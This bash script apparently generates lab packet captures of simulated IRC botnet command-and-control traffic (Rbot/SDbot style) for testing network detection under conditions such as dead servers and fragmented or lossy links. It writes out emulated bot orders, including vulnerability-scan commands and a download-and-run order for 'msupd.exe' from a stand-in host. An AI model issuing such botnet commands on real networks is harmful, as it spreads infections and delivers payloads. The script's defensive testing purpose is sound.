# shellcheck shell=bash
# Bots that report home, as Rbot and SDbot did. The server is 203.0.113.66, outside.

TOPIC='.advscan netapi 100 5 0 -b -r -s'

# command_server plugs in an office of so many, the infected host and its server.
command_server() {
	office "$1"
	outside
	host infected br0 10.20.0.66
	host orders br3 203.0.113.66
}

# Two hosts with Rbot's manners on 4915, in one channel, among people at work.
record_irc_bot_4915() {
	command_server 3
	host infected2 br0 10.20.0.67
	ngircd_on orders 4915 l0ckpw "$CHANNEL" "$KEY" "$TOPIC"
	capture core br0 0
	work 3 3 4
	bot infected 'DEU|XP|483920' 203.0.113.66 4915 "$CHANNEL $KEY" --password l0ckpw --stay 24 &
	WORKERS+=("$!")
	sleep 4
	bot infected2 'USA|2K|510837' 203.0.113.66 4915 "$CHANNEL $KEY" --password l0ckpw --stay 22 &
	WORKERS+=("$!")
	rest
	captured
	keep "$TMP/live.pcap" irc_bot_4915.pcap.gz
}

# SDbot's manners on 443, by orders of an operator; the nick changes by pattern.
record_irc_bot_443() {
	command_server 1
	inspircd_on orders 443
	operator orders 443 "$CHANNEL" "$KEY" 'be right back'
	capture core br0 0
	bot infected '[USA]2K-0291837' 203.0.113.66 443 "$CHANNEL $KEY" --style sdbot --stay 14 &
	WORKERS=("$!")
	await grep -qs '0291837.*has joined' "$OPERATOR/$CHANNEL/out"
	local order
	for order in '.login s3same' .status .rndnick '.download http://203.0.113.80/msupd.exe msupd.exe 1' \
		'.advscan lsass 150 3 0 -a -r'; do
		sleep 1.5
		orders "$CHANNEL" "$order"
	done
	rest
	captured
	keep "$TMP/live.pcap" irc_bot_443.pcap.gz
}

record_irc_bot_ipv6() {
	command_server 1
	ngircd_on orders 4915 "" "$CHANNEL" "$KEY" "$TOPIC"
	capture core br0 0
	bot infected 'BRA|XP|20914' "$(ipv6 203.0.113.66)" 4915 "$CHANNEL $KEY" --stay 8
	captured
	keep "$TMP/live.pcap" irc_bot_ipv6.pcap.gz
}

# The server is gone, and something else takes its connections and says nothing.
record_irc_bot_deadc2() {
	command_server 1
	start orders python3 -c 'import socket, time; s = socket.create_server(("", 4915)); time.sleep(600)'
	await listens orders ':4915 '
	capture core br0 0
	bot infected 'DEU|XP|483920' 203.0.113.66 4915 "$CHANNEL $KEY" --stay 6 --attempts 3
	captured
	keep "$TMP/live.pcap" irc_bot_deadc2.pcap.gz
}

# Both sides send segments of one to five octets.
record_irc_bot_tiny_segments() {
	command_server 1
	ngircd_on orders 6667 "" "$CHANNEL" "$KEY" "$TOPIC"
	start orders python3 "$HERE/actors/shred.py" 4915 6667 5
	await listens orders ':4915 '
	capture core br0 0
	bot infected 'DEU|XP|483920' 203.0.113.66 4915 "$CHANNEL $KEY" --stay 14 --segment 5
	captured
	keep "$TMP/live.pcap" irc_bot_tiny_segments.pcap.gz
}

# Bad lines on both sides of the mirror: it sees gaps that are filled later, repeats,
# repeats that begin elsewhere, and segments out of order.
record_irc_bot_lossy() {
	command_server 1
	ngircd_on orders 6667 "" "$CHANNEL" "$KEY" "$TOPIC"
	start orders python3 "$HERE/actors/shred.py" 4915 6667 50
	await listens orders ':4915 '
	bad_line infected 3
	bad_line orders 5
	capture core br0 0
	bot infected 'DEU|XP|483920' 203.0.113.66 4915 "$CHANNEL $KEY" --stay 12 --attempts 2 --segment 24
	captured
	keep "$TMP/live.pcap" irc_bot_lossy.pcap.gz
}
